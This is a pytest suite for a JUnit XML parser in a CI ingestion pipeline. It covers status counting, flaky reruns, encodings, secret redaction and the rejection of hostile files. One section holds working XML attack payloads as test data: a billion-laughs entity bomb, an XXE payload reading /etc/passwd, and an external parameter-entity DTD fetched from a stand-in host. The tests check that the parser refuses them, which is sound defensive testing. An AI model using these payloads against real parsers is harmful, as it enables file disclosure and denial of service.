from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from cicl_assets.ci.junit.reports import CI_TEST_CASES, TEST_STATUSES, parse_junit
from cicl_assets.ci.stream import CI_STREAM
from cicl_assets.ingest.content import ParseError
from cicl_assets.ingest.runner import ingest_stream
from cicl_assets.landing import LandingZone
from cicl_assets.warehouse.duckdb_warehouse import DuckDBWarehouse
from tests.redaction import masked
from tests.unit.ci.corpus import manifest_names, parse_bytes, parse_fixture

# Counts read off each file by hand: statuses, attempts of re-run cases, summed durations.
EXPECTED = {
    "dorny-empty__java-junit.xml": dict(statuses={}, framework=None, seconds=0),
    "dorny-jest__jest-junit.xml": dict(
        statuses={"passed": 1, "failed": 4, "skipped": 1}, framework="jest", seconds=0.007
    ),
    "dorny-launchtest__empty_failures.xml": dict(
        statuses={"passed": 2, "failed": 1}, framework="junit", seconds=6.79
    ),
    "dorny-pyunittest__python-xunit-unittest.xml": dict(
        statuses={"passed": 4, "failed": 1, "error": 1, "skipped": 2},
        framework="python-unittest",
        seconds=0.001,
    ),
    "dorny-swift__swift-xunit.xml": dict(
        statuses={"passed": 2, "failed": 1}, framework="junit", seconds=0.22047725
    ),
    "enricomi-bazel__suite-logs.xml": dict(statuses={"error": 1}, framework="bazel", seconds=0),
    "enricomi-edge__corrupt-xml.xml": dict(
        reject="XML is not well-formed: no element found at line 11, column 21"
    ),
    "enricomi-edge__no-attributes.xml": dict(
        statuses={"passed": 1, "skipped": 1, "failed": 1, "error": 1}, framework="junit", seconds=0
    ),
    "enricomi-edge__no-cases.xml": dict(statuses={}, framework=None, seconds=0),
    "enricomi-jest__jest-junit.xml": dict(statuses={"passed": 2}, framework="jest", seconds=0.295),
    "enricomi-nested__testsuite-in-testsuite.xml": dict(
        statuses={"passed": 5}, framework="phpunit", seconds=4.807419
    ),
    "enricomi-nunit3__NUnit-simple.xml": dict(
        reject="NUnit 2 XML (test-results), not JUnit; convert with"
    ),
    "enricomi-pytest__junit.fail.xml": dict(
        statuses={"passed": 3, "skipped": 1, "failed": 1}, framework="pytest", seconds=21.908
    ),
    "enricomi-scalatest__TEST-uk.co.gresearch.spark.diff.DiffOptionsSuite.xml": dict(
        statuses={"passed": 5}, framework="scalatest", seconds=2.223
    ),
    "gojunitreport__030-report.xml": dict(
        statuses={"failed": 9, "passed": 8}, framework="go", seconds=0
    ),
    "gojunitreport__104-report.xml": dict(statuses={"failed": 1}, framework="go", seconds=0),
    "jenkins-edge__TEST-null.xml": dict(statuses={"error": 1}, framework="junit", seconds=0),
    "jenkins-surefire__TEST-io.olamy.AlwaysFailTest.xml": dict(
        statuses={"failed": 1}, framework="surefire", seconds=0.001, attempts={"testApp": 4}
    ),
    "mikepenz-catch2__report.xml": dict(statuses={"failed": 1}, framework="catch2", seconds=0),
    "mikepenz-marathon__marathon_junit_report.xml": dict(
        statuses={"flaky": 1}, framework="surefire", seconds=1.86, attempts={"testFlakyFailure": 2}
    ),
    "mikepenz-retries__flaky_all_failures.xml": dict(
        statuses={"error": 1}, framework="junit", seconds=3.0, attempts={"test_always_fails": 3}
    ),
    "mikepenz-surefire__TEST-action.surefire.report.calc.CalcUtilsTest.xml": dict(
        statuses={"failed": 2}, framework="surefire", seconds=0.001
    ),
    "mikepenz-surefire__surefire-report.xml": dict(
        statuses={"flaky": 1}, framework="surefire", seconds=0.683, attempts={"createWebhook": 2}
    ),
}


def test_every_junit_fixture_has_an_expectation():
    assert sorted(manifest_names("junit")) == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_junit_fixture(name):
    want = EXPECTED[name]
    if "reject" in want:
        with pytest.raises(
            ParseError, match=want["reject"].replace("(", r"\(").replace(")", r"\)")
        ):
            parse_fixture("junit", name)
        return
    fmt, tables = parse_fixture("junit", name)
    rows = tables.get("ci_test_cases", [])
    assert fmt == "junit-xml"
    assert set(tables) <= {"ci_test_cases"}
    assert dict(Counter(r["status"] for r in rows)) == want["statuses"]
    assert {r["framework"] for r in rows} == ({want["framework"]} if rows else set())
    assert sum(r["duration_s"] or 0 for r in rows) == pytest.approx(want["seconds"])
    reruns = {r["name"]: r["attempts"] for r in rows if r["attempts"] != 1}
    assert reruns == want.get("attempts", {})
    assert all(r["pipeline_run_id"] == "run-1" for r in rows)
    CI_TEST_CASES.from_records(rows)  # every row fits the table's schema


def _rows(name):
    return parse_fixture("junit", name)[1]["ci_test_cases"]


def test_pytest_fields_are_read_from_attributes_and_bodies():
    rows = {r["name"]: r for r in _rows("enricomi-pytest__junit.fail.xml")}
    failed = rows["test_rsh_events"]
    assert failed["suite"] == "pytest"
    assert failed["classname"] == "test.test_spark.SparkTests"
    assert (failed["file"], failed["line"]) == ("test/test_spark.py", 819)
    assert failed["message"].startswith("self = <test_spark.SparkTests testMethod=test_rsh_events>")
    assert failed["details"].endswith("E AssertionError: 143 != 0")
    assert failed["test_key"] == "test.test_spark.SparkTests::test_rsh_events"
    skipped = rows["test_get_available_devices"]
    assert skipped["failure_type"] == "pytest.skip"
    assert skipped["message"] == "get_available_devices only supported in Spark 3.0 and above"
    assert failed["timestamp"] == datetime(2020, 9, 4, 16, 18, 4, 966371, tzinfo=UTC)


def test_nested_suites_keep_their_full_path():
    suites = {r["name"]: r["suite"] for r in _rows("enricomi-nested__testsuite-in-testsuite.xml")}
    assert suites == {
        "TestCase1": "Project Test Suite > TestSuite1",
        "TestCase2": "Project Test Suite > TestSuite1",
        "TestCase3": "Project Test Suite > TestSuite2 > TestSuite2.1",
        "TestCase4": "Project Test Suite > TestSuite2",
        "TestCase5": "Project Test Suite",
    }


def test_surefire_rerun_failures_count_attempts_and_keep_useful_properties():
    (row,) = _rows("jenkins-surefire__TEST-io.olamy.AlwaysFailTest.xml")
    assert (row["status"], row["attempts"], row["message"]) == ("failed", 4, "built to fail")
    assert row["failure_type"] == "junit.framework.AssertionFailedError"
    props = __import__("json").loads(row["properties"])
    assert props == {"surefire.rerunFailingTestsCount": "3"}  # JVM system properties dropped


def test_surefire_flaky_failure_is_flaky_with_its_stack_trace():
    (row,) = _rows("mikepenz-surefire__surefire-report.xml")
    assert row["status"] == "flaky"
    assert row["message"] == "Expected: <false>\n     but: was <true>"
    assert row["details"].startswith("java.lang.AssertionError:")
    assert row["failure_type"] == "java.lang.AssertionError"


def test_catch2_failure_location_comes_from_the_failure_element():
    (row,) = _rows("mikepenz-catch2__report.xml")
    assert (row["file"], row["line"]) == ("test/unit/detail/utility/is_constant_evaluated.cpp", 19)
    assert row["failure_type"] == "REQUIRE"
    assert row["properties"] == '{"filters": "is constant evaluated"}'


def test_repeated_case_becomes_one_row_with_the_last_outcome():
    (row,) = _rows("mikepenz-retries__flaky_all_failures.xml")
    assert (row["status"], row["attempts"], row["message"]) == ("error", 3, "third error")
    assert row["details"] == "Third attempt errored"


def test_go_properties_and_data_race_details():
    (row,) = _rows("gojunitreport__104-report.xml")
    assert row["properties"] == '{"go.version": "1.0"}'
    assert "WARNING: DATA RACE" in row["details"]
    assert row["suite"] == "package/name/race"


def test_nameless_cases_are_not_merged():
    rows = _rows("enricomi-edge__no-attributes.xml")
    assert [r["status"] for r in rows] == ["passed", "skipped", "failed", "error"]
    assert all(r["name"] is None and r["attempts"] == 1 for r in rows)


# --- shapes the corpus does not have, written from each tool's documented output ----------------


def _parse(xml: str | bytes, name: str = "report.xml"):
    data = xml.encode("utf-8") if isinstance(xml, str) else xml
    return next(iter(parse_junit(data, f"ci/run-9/{name}")))[1]


def test_rerun_that_passes_is_flaky():
    rows = _parse(
        """<testsuite name="pytest">
        <testcase classname="t.T" name="test_x" time="1.5"><failure message="boom">1</failure></testcase>
        <testcase classname="t.T" name="test_x" time="0.5"/>
        <testcase classname="t.T" name="test_y" time="0.1"/>
        </testsuite>"""
    )
    by_name = {r["name"]: r for r in rows}
    assert by_name["test_x"]["status"] == "flaky"
    assert by_name["test_x"]["attempts"] == 2
    assert by_name["test_x"]["duration_s"] == 2.0
    assert by_name["test_x"]["message"] == "boom"
    assert by_name["test_y"]["status"] == "passed"


def test_outcome_precedence_error_over_failure_over_skipped():
    rows = _parse(
        """<testsuites><testsuite name="s">
        <testcase name="a"><skipped/><failure message="f"/><error message="e"/></testcase>
        <testcase name="b"><skipped/><failure message="f"/></testcase>
        <testcase name="c" status="notrun"/>
        </testsuite></testsuites>"""
    )
    assert [(r["name"], r["status"], r["message"]) for r in rows] == [
        ("a", "error", "e"),
        ("b", "failed", "f"),
        ("c", "skipped", None),
    ]


def test_bom_astral_unicode_comma_and_negative_durations():
    xml = (
        "\ufeff<?xml version='1.0' encoding='UTF-8'?>"
        '<testsuite name="emoji \U0001f680"><testcase name="slow \U0001d11e" time="1,234.5"/>'
        '<testcase name="clock" time="-3"/><testcase name="junk" time="n/a"/></testsuite>'
    ).encode()
    rows = _parse(xml)
    assert rows[0]["suite"] == "emoji \U0001f680"
    assert rows[0]["name"] == "slow \U0001d11e"
    assert [r["duration_s"] for r in rows] == [1234.5, None, None]


def test_utf16_document_with_bom_parses():
    xml = '<?xml version="1.0" encoding="UTF-16"?><testsuite><testcase name="ü"/></testsuite>'
    assert _parse(xml.encode("utf-16"))[0]["name"] == "ü"


def test_nextest_flaky_and_rerun_failures():
    rows = _parse(
        """<?xml version="1.0" encoding="UTF-8"?>
        <testsuites name="nextest-run" tests="2" failures="1" errors="0" uuid="x" timestamp="2026-11-03T04:12:00.000+00:00" time="0.3">
          <testsuite name="flow-runtime::integration" tests="2" disabled="0" errors="0" failures="1">
            <testcase name="routes::retries" classname="flow-runtime::integration" timestamp="2026-11-03T04:12:00.100+00:00" time="0.2">
              <flakyFailure timestamp="2026-11-03T04:12:00.100+00:00" time="0.1" message="test failed" type="test failure">
                <stackTrace>thread panicked</stackTrace></flakyFailure>
            </testcase>
            <testcase name="routes::always" classname="flow-runtime::integration" time="0.1">
              <failure message="test failed" type="test failure">panicked</failure>
              <rerunFailure message="test failed" type="test failure">panicked</rerunFailure>
              <rerunFailure message="test failed" type="test failure">panicked</rerunFailure>
            </testcase>
          </testsuite>
        </testsuites>"""
    )
    assert [(r["name"], r["status"], r["attempts"], r["framework"]) for r in rows] == [
        ("routes::retries", "flaky", 2, "nextest"),
        ("routes::always", "failed", 3, "nextest"),
    ]
    assert rows[0]["timestamp"] == datetime(2026, 11, 3, 4, 12, 0, 100000, tzinfo=UTC)


def test_surefire_flaky_error_and_rerun_error():
    rows = _parse(
        """<testsuite name="S" xsi:noNamespaceSchemaLocation="surefire-test-report.xsd"
             xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
          <testcase name="a" classname="C"><flakyError type="java.io.IOException" message="io"/></testcase>
          <testcase name="b" classname="C"><error type="E" message="boom"/><rerunError type="E"/></testcase>
        </testsuite>"""
    )
    assert [(r["status"], r["attempts"], r["failure_type"]) for r in rows] == [
        ("flaky", 2, "java.io.IOException"),
        ("error", 2, "E"),
    ]


def test_testng_junit_reports_are_recognised():
    rows = _parse(
        """<?xml version="1.0" encoding="UTF-8"?>
        <!-- Generated by org.testng.reporters.JUnitReportReporter -->
        <testsuite hostname="ci" failures="0" tests="2" name="com.example.FlowTest" time="0.020"
                   errors="0" timestamp="2026-11-03T04:12:00 UTC" skipped="1">
          <testcase classname="com.example.FlowTest" name="routes" time="0.020"/>
          <testcase classname="com.example.FlowTest" name="ignored" time="0.0"><skipped/></testcase>
        </testsuite>"""
    )
    assert {r["framework"] for r in rows} == {"testng"}
    assert [r["status"] for r in rows] == ["passed", "skipped"]
    assert rows[0]["timestamp"] == datetime(2026, 11, 3, 4, 12, tzinfo=UTC)


def test_details_are_capped_and_secrets_redacted():
    body = "token=ghp_" + "a" * 36 + "\n" + "x" * 20_000
    rows = _parse(
        f'<testsuite><testcase name="t"><failure message="Authorization: Bearer abcdefghijklmnop">'
        f"{body}</failure></testcase></testsuite>"
    )
    details = rows[0]["details"]
    assert len(details.encode()) < 8 * 1024 + 100
    assert "truncated" in details
    assert "ghp_" not in details and "[REDACTED:" in details
    assert masked(rows[0]["message"]) == "Authorization: Bearer [REDACTED]"


def test_secret_named_properties_are_redacted():
    rows = _parse(
        """<testsuite><properties><property name="DB_PASSWORD" value="hunter22"/>
        <property name="shard" value="3"/></properties><testcase name="t"/></testsuite>"""
    )
    assert masked(rows[0]["properties"]) == '{"DB_PASSWORD": "[REDACTED]", "shard": "3"}'


def test_every_outcome_becomes_one_of_the_five_statuses():
    rows = _parse(
        """<testsuite name="s">
        <testcase name="plain"/>
        <testcase name="failure"><failure/></testcase>
        <testcase name="error"><error/></testcase>
        <testcase name="skipped"><skipped/></testcase>
        <testcase name="flaky-failure"><flakyFailure/></testcase>
        <testcase name="flaky-error"><flakyError/></testcase>
        <testcase name="rerun-failure"><rerunFailure/></testcase>
        <testcase name="rerun-error"><rerunError/></testcase>
        <testcase name="disabled" status="disabled"/>
        <testcase name="ignored" result="Ignored"/>
        <testcase name="odd-marker" status="weird"/>
        </testsuite>"""
    )
    assert [(r["name"], r["status"]) for r in rows] == [
        ("plain", "passed"),
        ("failure", "failed"),
        ("error", "error"),
        ("skipped", "skipped"),
        ("flaky-failure", "flaky"),
        ("flaky-error", "flaky"),
        ("rerun-failure", "failed"),
        ("rerun-error", "error"),
        ("disabled", "skipped"),
        ("ignored", "skipped"),
        ("odd-marker", "passed"),
    ]
    # The figures and the status check count exactly the statuses the parser writes.
    assert sorted(TEST_STATUSES) == sorted({r["status"] for r in rows})


# --- hostile input ------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<testsuite name="&lol9;"><testcase name="x"/></testsuite>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="&xxe;"/></testsuite>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<testsuite><testcase name="x"/></testsuite>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY])
def test_entity_tricks_are_refused(doc):
    fmt, _ = None, None
    with pytest.raises(ParseError, match="DOCTYPE/entity declarations are not allowed"):
        fmt, _ = parse_bytes(doc, "ci/run-9/evil.xml")
    assert fmt is None


def test_invalid_character_reference_names_its_position():
    with pytest.raises(ParseError, match=r"line 2, column \d+"):
        _parse('<testsuite>\n<testcase name="a&#x0;b"/></testsuite>')


def test_other_roots_are_not_claimed_as_junit():
    with pytest.raises(ParseError, match="NUnit 3 XML \\(test-run\\), not JUnit"):
        parse_bytes(b'<test-run id="2" testcasecount="1"><test-suite/></test-run>', "ci/r/n.xml")
    with pytest.raises(ParseError, match="unrecognised format"):
        parse_bytes(b'<assemblies><assembly name="x.dll"/></assemblies>', "ci/r/xunit.xml")


# --- through the ingest runner: what lands in ingest_rejects ------------------------------------


def test_runner_rejects_hostile_files_with_actionable_reasons(tmp_path):
    run = tmp_path / "landing" / "ci" / "run-h"
    run.mkdir(parents=True)
    (run / "laughs.xml").write_bytes(BILLION_LAUGHS)
    (run / "xxe.xml").write_bytes(XXE)
    (run / "empty.xml").write_bytes(b"")
    (run / "notes.txt").write_bytes(b"this is not a report")
    (run / "big.xml").write_bytes(b"<testsuite>" + b'<testcase name="x"/>' * 200 + b"</testsuite>")
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><testsuite><testcase name="w"/></testsuite>'
    (run / "utf16.xml").write_bytes(utf16.encode("utf-16"))
    warehouse = DuckDBWarehouse(path=str(tmp_path / "w.duckdb"))
    stream = replace(CI_STREAM, max_file_bytes=2048)
    report = ingest_stream(stream, LandingZone(uri=str(tmp_path / "landing")), warehouse)
    assert (report.files_ingested, report.files_rejected) == (1, 5)
    errors = {
        r["source_file"].rsplit("/", 1)[1]: r["error"]
        for r in warehouse.query("SELECT source_file, error FROM ingest_rejects").to_pylist()
    }
    assert errors["laughs.xml"] == (
        "ci/run-h/laughs.xml: junit-xml: DOCTYPE/entity declarations are not allowed "
        "(<!DOCTYPE lolz>)"
    )
    assert errors["xxe.xml"] == (
        "ci/run-h/xxe.xml: junit-xml: DOCTYPE/entity declarations are not allowed "
        "(<!DOCTYPE testsuite>)"
    )
    assert (
        errors["empty.xml"] == "ci/run-h/empty.xml: unknown: the file is empty (0 bytes of content)"
    )
    assert errors["notes.txt"].startswith(
        "ci/run-h/notes.txt: unknown: unrecognised format (expected one of: junit-xml, "
    )
    assert errors["notes.txt"].endswith("); starts 'this is not a report'")
    assert errors["big.xml"].startswith("ci/run-h/big.xml: file is larger than the 2,048-byte cap")
    assert warehouse.query("SELECT name FROM ci_test_cases").to_pylist() == [{"name": "w"}]
